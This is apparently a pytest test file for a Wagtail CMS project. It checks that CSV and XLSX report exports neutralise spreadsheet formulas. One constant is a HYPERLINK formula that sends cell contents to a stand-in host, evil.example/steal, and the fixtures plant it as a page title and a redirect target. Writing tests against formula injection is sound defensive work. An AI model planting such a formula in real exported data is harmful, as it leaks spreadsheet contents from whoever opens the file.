"""Wagtail's own report exports cannot smuggle a spreadsheet formula (issue 8, point 4)."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import GroupApprovalTask, Page, Workflow

from cms.exports import neutralise
from cms.models import HomePage

from .factories import StaffFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'
# Every admin view that offers a CSV/XLSX download (test_every_export_view_is_covered).
REPORTS = [
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/reports/locked/",
    "/admin/reports/workflow/",
    "/admin/reports/workflow_tasks/",
    "/admin/redirects/",
]


@pytest.fixture
def admin_client(client):
    """A formula as a page title (published, locked, in moderation) and as a redirect target."""
    admin = StaffFactory(is_staff=True, is_superuser=True)
    page = Page.get_first_root_node().add_child(instance=HomePage(title=EVIL, slug="evil"))
    page.save_revision(user=admin).publish(user=admin)
    workflow = Workflow.objects.filter(active=True).first() or Workflow.objects.create(
        name="Review"
    )
    if not workflow.workflow_tasks.exists():
        task = GroupApprovalTask.objects.create(name="Approve")
        workflow.workflow_tasks.create(task=task, sort_order=0)
    page.save_revision(user=admin)
    workflow.start(page.specific, admin)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=admin, locked_at=timezone.now())
    Redirect.objects.create(old_path="/old", redirect_link=EVIL)
    client.force_login(admin)
    return client


def test_every_export_view_is_covered():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from .url_matrix import routes

    exporting = set()
    for route in routes():
        view = getattr(route.pattern.callback, "view_class", None)
        if view and issubclass(view, SpreadsheetExportMixin) and view.list_export:
            if not route.route.endswith("results/"):
                exporting.add("/" + route.route)
    assert exporting == set(REPORTS)


def _csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("report", REPORTS)
def test_csv_export_of_a_report_neutralises_a_formula_title(admin_client, report):
    response = admin_client.get(report, {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize("report", REPORTS)
def test_xlsx_export_of_a_report_holds_no_formula(admin_client, report):
    response = admin_client.get(report, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert any(cell.value == "'" + EVIL for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_neutralise_prefixes_every_formula_trigger(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "李秀英", "", 42, -3, None])
def test_neutralise_leaves_ordinary_values_alone(value):
    assert neutralise(value) == value
